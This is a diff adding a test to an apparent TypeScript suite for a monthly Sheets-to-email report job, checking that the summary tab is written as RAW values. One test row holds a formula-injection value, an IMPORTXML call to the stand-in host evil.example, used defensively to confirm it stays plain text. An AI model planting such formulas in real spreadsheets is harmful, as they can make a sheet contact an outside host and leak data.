@@ -94,6 +94,24 @@ describe('the monthly job on a laptop (issue 12)', () => {
     expect(sheets.counts.get('sheet-a')).toEqual({ reads: 2, writes: 1 });
   });
 
+  it('writes the summary tab as plain values (RAW): a formula typed as text arrives as text, no other tab touched', async () => {
+    const { SheetsSource } = await import('../../adapters/sheets-source.ts');
+    const book = sheets.books.get('sheet-b')!;
+    const before = JSON.stringify(book.tabs.filter((t) => t.name !== 'สรุป (summary)'));
+    const source = new SheetsSource({ rootUrl: sheets.url });
+    await source.read({ spreadsheet_id: 'sheet-b' });
+    await source.writeSummary({ spreadsheet_id: 'sheet-b' }, [
+      ['name', '=IMPORTXML("http://evil.example","//a")'],
+      ['n', 5],
+    ]);
+    const tab = book.tabs.find((t) => t.name === 'สรุป (summary)')!;
+    expect(tab.rows).toEqual([
+      ['name', '=IMPORTXML("http://evil.example","//a")'],
+      ['n', 5],
+    ]);
+    expect(JSON.stringify(book.tabs.filter((t) => t.name !== 'สรุป (summary)'))).toBe(before);
+  });
+
   it('writes emails a real MIME parser reads: Thai subject, HTML and text, the summary’s figures', async () => {
     const raw = readFileSync(join(dir, 'plain', 'out', 'g-sheet-a-2026-10.eml'));
     expect(raw.toString('latin1')).toMatch(/Subject: =\?UTF-8\?/);
